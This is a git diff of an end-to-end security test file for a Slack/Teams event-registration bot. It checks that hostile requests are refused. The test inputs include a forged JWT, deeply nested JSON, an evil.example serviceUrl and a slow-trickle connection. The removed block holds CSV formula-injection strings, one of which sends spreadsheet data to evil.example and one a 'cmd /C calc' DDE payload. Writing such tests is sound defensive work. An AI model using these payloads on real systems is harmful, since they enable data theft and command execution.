@@ -1,24 +1,23 @@
 // Issue 10, attack by attack: each is sent over HTTP to the real server (`npm start` as a child process where the
 // process itself is at stake, the same server in this process where the test must see the store), and each must be
-// refused with the right status and change nothing.
+// refused with the right status and change nothing. Who owns a registration, and replayed or retried Slack requests,
+// are in security.registrations.e2e.test.ts.
 import { existsSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import { connect } from 'node:net';
 import { join } from 'node:path';
-import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { stripBidi } from '../src/core/i18n/bidi.js';
 import { teamsMode } from '../src/bots/teams/mode.js';
 import { readConfig } from '../src/core/config.js';
 import { STORE_FILE } from '../src/store/lowdb/index.js';
 import { tempDir } from './helpers/bot.js';
+import { startE2e } from './helpers/e2e.js';
 import { FakeConnector, postActivity, teamsActivity } from './helpers/fake-connector.js';
-import { FakeSlack } from './helpers/fake-slack.js';
-import { startTestServer, type TestServer } from './helpers/server.js';
-import { blockAction, eventCallback, signedPost, SIGNING_SECRET, slashCommand, slashCommandBody } from './helpers/slack-requests.js';
-import { submitRegistrationModal } from './helpers/slack-modal.js';
-import { failedStart, spawnServer } from './helpers/spawn-server.js';
+import { slashCommand } from './helpers/slack-requests.js';
+import { poll } from './helpers/poll.js';
+import { failedStart } from './helpers/spawn-server.js';
 
 const text = (x: unknown) => stripBidi(JSON.stringify(x));
-const NOW = '2021-05-04T14:00:00Z';
 const APP_ID = '11111111-2222-3333-4444-555555555555';
 const lines = (logs: string, pattern: RegExp) => logs.split('\n').filter((l) => pattern.test(l));
 
@@ -32,14 +31,14 @@ describe('Teams is closed unless asked to be open', () => {
   });
 
   it('without an app id (NODE_ENV=Production, as the probe sent it) Teams is off with one log line, and /api/messages answers nobody', async () => {
-    const server = await spawnServer({ DATA_DIR: tempDir(), CKEX_NOW: NOW, NODE_ENV: 'Production' });
+    const { server, close } = await startE2e({ spawn: true, platforms: [], env: { NODE_ENV: 'Production' } });
     try {
       const res = await postActivity(server.url, teamsActivity('http://127.0.0.1:9/', { text: 'export' }));
       expect(res.status).toBe(404);
       expect(await res.text()).not.toMatch(/<html|at .*\.js/i);
       expect(lines(server.logs(), /Teams is off/)).toHaveLength(1);
     } finally {
-      await server.stop();
+      await close();
     }
   });
 
@@ -50,7 +49,7 @@ describe('Teams is closed unless asked to be open', () => {
   });
 
   it('with an app id, a missing, forged or expired token is a short 401 with one log line, never library text', async () => {
-    const server = await spawnServer({ DATA_DIR: tempDir(), CKEX_NOW: NOW, MicrosoftAppId: APP_ID, MicrosoftAppPassword: 'secret' });
+    const { server, close } = await startE2e({ spawn: true, platforms: [], env: { MicrosoftAppId: APP_ID, MicrosoftAppPassword: 'secret' } });
     try {
       const forged = `${Buffer.from('{"alg":"RS256","kid":"x"}').toString('base64url')}.${Buffer.from(JSON.stringify({ aud: APP_ID, iss: 'https://api.botframework.com', exp: 1 })).toString('base64url')}.c2ln`;
       const before = server.logs().split('\n').length;
@@ -63,12 +62,17 @@ describe('Teams is closed unless asked to be open', () => {
         expect(res.status).toBe(401);
         expect(await res.json()).toEqual({ error: 'unauthorized' });
       }
-      await new Promise((r) => setTimeout(r, 200));
-      const added = server.logs().split('\n').slice(before - 1).filter(Boolean);
+      // One more refusal after the three: once its line is in, every line they logged is in before it.
+      const marker = await fetch(`${server.url}/api/messages`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(teamsActivity('https://smba.trafficmanager.net/emea/', { text: 'export' })) });
+      expect(marker.status).toBe(401);
+      const logged = () => server.logs().split('\n').slice(before - 1).filter(Boolean);
+      const refusals = () => logged().flatMap((line, i) => (line.includes('Teams request refused: 401') ? [i] : []));
+      const markerAt = await poll(() => refusals()[3], () => `the fourth refusal in the log:\n${logged().join('\n')}`);
+      const added = logged().slice(0, markerAt);
       expect(added).toHaveLength(3);
       expect(added.join('\n')).not.toMatch(/\n\s+at |jwks|-----BEGIN|"keys"/i);
     } finally {
-      await server.stop();
+      await close();
     }
   });
 });
@@ -81,7 +85,7 @@ describe('hostile Teams activities (TEAMS_ALLOW_UNAUTHENTICATED=1)', () => {
   afterAll(async () => connector.close());
 
   it('10,000 nested arrays in `from` are a 400, and the process keeps answering', async () => {
-    const server = await spawnServer({ DATA_DIR: tempDir(), CKEX_NOW: NOW, NODE_ENV: 'development', TEAMS_ALLOW_UNAUTHENTICATED: '1' });
+    const { server, close } = await startE2e({ spawn: true, platforms: ['teams'], connector });
     try {
       // Written by hand: JSON.stringify itself overflows on 10,000 levels, which is the point of the attack.
       const activity = JSON.stringify(teamsActivity(connector.url, { text: 'today', from: { id: '29:deep', name: 'Deep', extra: '@@' } })).replace('"@@"', `${'['.repeat(10_000)}${']'.repeat(10_000)}`);
@@ -93,13 +97,12 @@ describe('hostile Teams activities (TEAMS_ALLOW_UNAUTHENTICATED=1)', () => {
       expect(ok.status).toBe(200);
     } finally {
       expect(server.child.exitCode).toBeNull();
-      await server.stop();
+      await close();
     }
   });
 
   it('answers only a serviceUrl on this machine, and a body over the limit is a 413', async () => {
-    const dataDir = tempDir();
-    const server = await startTestServer(NOW, { DATA_DIR: dataDir });
+    const { server, close } = await startE2e({ platforms: ['teams'], connector });
     try {
       const away = await postActivity(server.url, teamsActivity('https://evil.example/', { text: 'today', conversation: { id: 'a:evil', conversationType: 'personal' } }));
       expect(away.status).toBe(403);
@@ -107,13 +110,12 @@ describe('hostile Teams activities (TEAMS_ALLOW_UNAUTHENTICATED=1)', () => {
       const huge = await postActivity(server.url, teamsActivity(connector.url, { text: 'today', channelData: { blob: 'x'.repeat(900_000) } }));
       expect(huge.status).toBe(413);
     } finally {
-      await server.close();
+      await close();
     }
   });
 
   it('stores only what a conversation reference needs, however much an activity carries', async () => {
-    const dataDir = tempDir();
-    const server = await startTestServer(NOW, { DATA_DIR: dataDir });
+    const { server, dataDir, close } = await startE2e({ platforms: ['teams'], connector });
     try {
       for (let i = 0; i < 30; i++) {
         const activity = teamsActivity(connector.url, { text: 'help', conversation: { id: `a:big-${i}`, conversationType: 'personal', tenantId: 't', junk: 'x'.repeat(120_000) }, from: { id: `29:big-${i}`, name: 'y'.repeat(100_000) } });
@@ -125,13 +127,12 @@ describe('hostile Teams activities (TEAMS_ALLOW_UNAUTHENTICATED=1)', () => {
       expect(JSON.stringify(stored)).not.toContain('yyyy');
       expect(statSync(join(dataDir, STORE_FILE)).size).toBeLessThan(50_000);
     } finally {
-      await server.close();
+      await close();
     }
   });
 
   it('an organiser id is honoured only on its own platform', async () => {
-    const slack = await new FakeSlack().start();
-    const server = await startTestServer(NOW, { CKEX_ADMINS: 'UADMIN,console:local', SLACK_BOT_TOKEN: 'xoxb-test', SLACK_SIGNING_SECRET: SIGNING_SECRET, SLACK_API_URL: slack.apiUrl });
+    const { slack, server, events, close } = await startE2e({ connector, env: { CKEX_ADMINS: 'UADMIN,console:local' } });
     try {
       for (const id of ['UADMIN', 'console:local']) {
         connector.calls.length = 0;
@@ -140,157 +141,13 @@ describe('hostile Teams activities (TEAMS_ALLOW_UNAUTHENTICATED=1)', () => {
         expect(text(call!.activity)).toContain('only the organisers');
         expect(text(call!.activity)).not.toContain('/files/');
       }
-      await slashCommand(`${server.url}/slack/events`, 'registrations', slack.responseUrl(), 'UADMIN');
+      await slashCommand(events, 'registrations', slack.responseUrl(), 'UADMIN');
       const [answer] = await slack.waitFor('respond');
       expect(text(answer!.body.blocks)).toContain('registrations');
       expect(text(answer!.body.blocks)).not.toContain('only the organisers');
     } finally {
-      await server.close();
-      await slack.close();
+      await close();
     }
-  });
-});
-
-describe('registrations belong to whoever created them (Slack and Teams)', () => {
-  let slack: FakeSlack;
-  let connector: FakeConnector;
-  let server: TestServer;
-  let events: string;
-  const GOOD = { name: 'Amina Benali', email: 'amina@example.org', organisation: 'Ministry of Social Affairs', country: 'Morocco', role: 'policymaker', institution: 'ministry', region: 'MENA', nominatedBy: '', interpretation: 'fr', consent: 'yes' };
-
-  const submitModal = (user: string, values: Record<string, string>) => submitRegistrationModal(events, user, values, 'en');
-
-  beforeAll(async () => {
-    slack = await new FakeSlack().start();
-    connector = await new FakeConnector().start();
-    server = await startTestServer(NOW, { SLACK_BOT_TOKEN: 'xoxb-test', SLACK_SIGNING_SECRET: SIGNING_SECRET, SLACK_API_URL: slack.apiUrl, CKEX_ADMINS: 'UORG', CKEX_ORGANISERS_CHANNEL: 'slack:CORG', PUBLIC_URL: 'http://127.0.0.1:9' });
-    events = `${server.url}/slack/events`;
-  });
-  afterAll(async () => {
-    await server.close();
-    await slack.close();
-    await connector.close();
-  });
-  beforeEach(() => {
-    slack.calls.length = 0;
-    connector.calls.length = 0;
-  });
-
-  it('another user giving an existing email changes nothing, gets a neutral answer, and the organisers are told', async () => {
-    expect((await submitModal('UVICTIM', GOOD)).response_action).toBe('update');
-    const original = structuredClone((await server.store.registrationByEmail('amina@example.org'))!);
-    await slack.waitFor('chat.postMessage'); // the pending notice
-    slack.calls.length = 0;
-    const body = await submitModal('UTHIEF', { ...GOOD, name: 'Thief', organisation: 'Elsewhere' });
-    expect(text(body.view)).toContain('already registered');
-    expect(text(body.view)).not.toContain(original.id);
-    expect(await server.store.registrationByEmail('amina@example.org')).toEqual(original);
-    const [notice] = await slack.waitFor('chat.postMessage');
-    expect(notice!.body.channel).toBe('CORG');
-    expect(text(notice!.body.blocks)).toContain(original.id);
-    // His `me delete` erases nothing of hers.
-    await slashCommand(events, 'me delete confirm', slack.responseUrl('thief'), 'UTHIEF');
-    await slack.waitFor('respond');
-    expect(await server.store.registrationByEmail('amina@example.org')).toEqual(original);
-  });
-
-  it('a Teams user giving a Slack user’s email changes nothing either', async () => {
-    const original = structuredClone((await server.store.registrationByEmail('amina@example.org'))!);
-    const res = await postActivity(server.url, teamsActivity(connector.url, { type: 'invoke', name: 'adaptiveCard/action', value: { action: { type: 'Action.Execute', verb: 'ckex-register', data: { ckexForm: 'registration', lang: 'en', ...GOOD, name: 'Other' } } } }));
-    expect(res.status).toBe(200);
-    expect(text(await res.json())).toContain('already registered');
-    expect(await server.store.registrationByEmail('amina@example.org')).toEqual(original);
-  });
-
-  it('an invited email is confirmed at once only when the platform vouches the user owns it', async () => {
-    await slashCommand(events, 'invites layla@example.org, omar@example.org, noor@example.org', slack.responseUrl('org'), 'UORG');
-    await slack.waitFor('respond');
-    slack.users.set('UOMAR', { profile: { email: 'omar@example.org' } });
-    slack.users.set('UFAKE', { profile: { email: 'fake@example.org' } });
-    await submitModal('UFAKE', { ...GOOD, name: 'Not Layla', email: 'layla@example.org' });
-    expect((await server.store.registrationByEmail('layla@example.org'))?.status).toBe('pending');
-    await submitModal('UOMAR', { ...GOOD, name: 'Omar Said', email: 'omar@example.org' });
-    expect((await server.store.registrationByEmail('omar@example.org'))?.status).toBe('confirmed');
-    // Teams: the roster's email is the witness.
-    connector.members.set('29:noor', { email: 'Noor@Example.org' });
-    const card = (from: string, email: string) => teamsActivity(connector.url, { type: 'invoke', name: 'adaptiveCard/action', from: { id: from }, conversation: { id: `a:${from}`, conversationType: 'personal' }, value: { action: { type: 'Action.Execute', verb: 'ckex-register', data: { ckexForm: 'registration', lang: 'en', ...GOOD, email } } } });
-    await postActivity(server.url, card('29:noor', 'noor@example.org'));
-    expect((await server.store.registrationByEmail('noor@example.org'))?.status).toBe('confirmed');
-    await slashCommand(events, 'invites someone@example.org', slack.responseUrl('org2'), 'UORG');
-    await postActivity(server.url, card('29:stranger', 'someone@example.org'));
-    expect((await server.store.registrationByEmail('someone@example.org'))?.status).toBe('pending');
-  });
-
-  it('spreadsheet formulas in any answer reach the CSV as text', async () => {
-    await submitModal('UFORMULA', { ...GOOD, email: 'formula@example.org', name: '=HYPERLINK("http://evil.example/?x="&A2,"Click")', organisation: "@SUM(1+1)*cmd|' /C calc'!A0" });
-    await slashCommand(events, 'export', slack.responseUrl('export'), 'UORG');
-    const [answer] = await slack.waitFor('respond');
-    const url = JSON.stringify(answer!.body.blocks).match(/http:\/\/127\.0\.0\.1:9(\/files\/[^"]+)/)![1]!;
-    const csv = await (await fetch(`${server.url}${url}`)).text();
-    const row = csv.split('\n').find((l) => l.includes('formula@example.org'))!;
-    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")"`);
-    expect(row).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
-    expect(row).not.toMatch(/(^|,)[=+\-@]/);
-  });
-
-  it('`me delete` revokes a `me export` link taken before it', async () => {
-    await slashCommand(events, 'me export', slack.responseUrl('mine'), 'UVICTIM');
-    const [answer] = await slack.waitFor('respond');
-    const url = JSON.stringify(answer!.body.blocks).match(/http:\/\/127\.0\.0\.1:9(\/files\/[^"]+)/)![1]!;
-    expect((await fetch(`${server.url}${url}`)).status).toBe(200);
-    slack.calls.length = 0;
-    await slashCommand(events, 'me delete confirm', slack.responseUrl('del'), 'UVICTIM');
-    await slack.waitFor('respond');
-    expect(await server.store.registrationByEmail('amina@example.org')).toBeUndefined();
-    const after = await fetch(`${server.url}${url}`);
-    expect(after.status).toBe(404);
-    expect(await after.text()).not.toContain('amina');
-  });
-
-  it('a replayed signed request is acknowledged and not run again; a timestamp from the future is refused', async () => {
-    const body = slashCommandBody('invites replay@example.org', slack.responseUrl('replay'), 'UORG');
-    const ts = Math.floor(Date.now() / 1000);
-    const answers: string[] = [];
-    for (let i = 0; i < 3; i++) {
-      const res = await signedPost(events, body, 'application/x-www-form-urlencoded', { timestamp: ts });
-      expect(res.status).toBe(200);
-      answers.push(await res.text());
-    }
-    await new Promise((r) => setTimeout(r, 300));
-    // The answer (in the ack, or through response_url) comes once; the replays are acknowledged empty.
-    expect(answers.filter((a) => a.includes('invited')).length + slack.of('respond').length).toBe(1);
-    expect(answers.slice(1)).toEqual(['', '']);
-    const future = await signedPost(events, slashCommandBody('today', slack.responseUrl('f'), 'UORG'), 'application/x-www-form-urlencoded', { timestamp: ts + 365 * 24 * 3600 });
-    expect(future.status).toBe(401);
-    expect(await future.text()).not.toContain('May 2021');
-  });
-
-  it('approving twice approves once and tells the participant once', async () => {
-    await submitModal('UTWICE', { ...GOOD, email: 'twice@example.org' });
-    const id = (await server.store.registrationByEmail('twice@example.org'))!.id;
-    slack.calls.length = 0;
-    for (const ts of ['1', '2']) {
-      await blockAction(events, { user: { id: 'UORG' }, container: { type: 'message', is_ephemeral: false }, channel: { id: 'CORG' }, response_url: slack.responseUrl(`a${ts}`), actions: [{ type: 'button', action_id: 'ckex_cmd_0', value: JSON.stringify({ c: `approve ${id}`, l: 'en' }), action_ts: ts }] });
-    }
-    const answers = await slack.waitFor('respond', 2);
-    expect(answers.filter((a) => text(a.body.blocks).includes('already'))).toHaveLength(1);
-    expect(slack.of('chat.postMessage').filter((c) => c.body.channel === 'UTWICE')).toHaveLength(1);
-  });
-
-  it('user text is escaped in the notification text of a shared message too', async () => {
-    await blockAction(events, { user: { id: 'USHARE' }, channel: { id: 'C1' }, container: { type: 'message', is_ephemeral: true }, response_url: slack.responseUrl('share'), actions: [{ type: 'button', action_id: 'ckex_share', value: JSON.stringify({ c: 'resources <!channel> <@U123>', l: 'en' }), action_ts: '9' }] });
-    const [shared] = await slack.waitFor('respond');
-    expect(shared!.body.response_type).toBe('in_channel');
-    expect(shared!.body.text).not.toMatch(/<!channel>|<@U123>/);
-    expect(JSON.stringify(shared!.body.blocks)).not.toMatch(/<!channel>|<@U123>/);
-  });
-
-  it('an event retried by Slack is answered once (its event_id), even with a new signature', async () => {
-    const event = { type: 'message', channel_type: 'im', channel: 'DRETRY', user: 'URETRY', text: 'help', ts: '5.1', event_ts: '5.1' };
-    await eventCallback(events, event, { eventId: 'EvRetry' });
-    await eventCallback(events, event, { eventId: 'EvRetry', retryNum: 1, timestamp: Math.floor(Date.now() / 1000) + 1 });
-    await new Promise((r) => setTimeout(r, 300));
-    expect(slack.of('chat.postMessage').filter((c) => c.body.channel === 'DRETRY')).toHaveLength(1);
   });
 });
 
@@ -299,17 +156,16 @@ describe('erasure, retention and the HTTP server', () => {
     const dataDir = tempDir();
     const stale = join(dataDir, `.${STORE_FILE}.4242.7.tmp`);
     writeFileSync(stale, JSON.stringify({ registrations: { secret: 'erased data' } }));
-    const server = await spawnServer({ DATA_DIR: dataDir, CKEX_NOW: NOW });
+    const { close } = await startE2e({ spawn: true, platforms: [], env: { DATA_DIR: dataDir } });
     try {
       expect(existsSync(stale)).toBe(false);
     } finally {
-      await server.stop();
+      await close();
     }
   });
 
   it('abandoned forms expire, and on the retention day personal data is erased; `retention` says what and when', async () => {
-    const dataDir = tempDir();
-    const server = await startTestServer(NOW, { DATA_DIR: dataDir, CKEX_ADMINS: 'console:local' });
+    const { server, dataDir, close } = await startE2e({ platforms: [], env: { CKEX_ADMINS: 'console:local' } });
     const organiser = { id: 'console:local' };
     try {
       const say = async (t: string, caller = organiser) => stripBidi(JSON.stringify((await server.dispatcher.handle(caller, t, { conversational: true })).blocks));
@@ -330,12 +186,12 @@ describe('erasure, retention and the HTTP server', () => {
       expect(Object.entries(left).filter(([, n]) => n !== 0)).toEqual([]);
       expect(readFileSync(join(dataDir, STORE_FILE), 'utf8')).not.toContain('someone@example.org');
     } finally {
-      await server.close();
+      await close();
     }
   });
 
   it('a malformed path is a short 400 with no stack trace; an unknown one a short 404', async () => {
-    const server = await startTestServer(NOW, {});
+    const { server, close } = await startE2e({ platforms: [] });
     try {
       for (const [path, status] of [['/ics/%ZZ', 400], ['/files/%E0%A4%A/x', 400], ['/nothing-here', 404]] as const) {
         const res = await fetch(`${server.url}${path}`);
@@ -344,12 +200,12 @@ describe('erasure, retention and the HTTP server', () => {
         expect(body).not.toMatch(/<html|URIError|at .*\.js|node_modules/i);
       }
     } finally {
-      await server.close();
+      await close();
     }
   });
 
   it('a client trickling its request is cut off instead of holding the connection for minutes', async () => {
-    const server = await startTestServer(NOW, {});
+    const { server, close } = await startE2e({ platforms: [] });
     try {
       const port = Number(new URL(server.url).port);
       const closed = await new Promise<string>((resolve) => {
@@ -366,7 +222,7 @@ describe('erasure, retention and the HTTP server', () => {
       });
       expect(closed).toMatch(/^HTTP\/1\.1 408|^$/);
     } finally {
-      await server.close();
+      await close();
     }
   }, 60_000);
 });
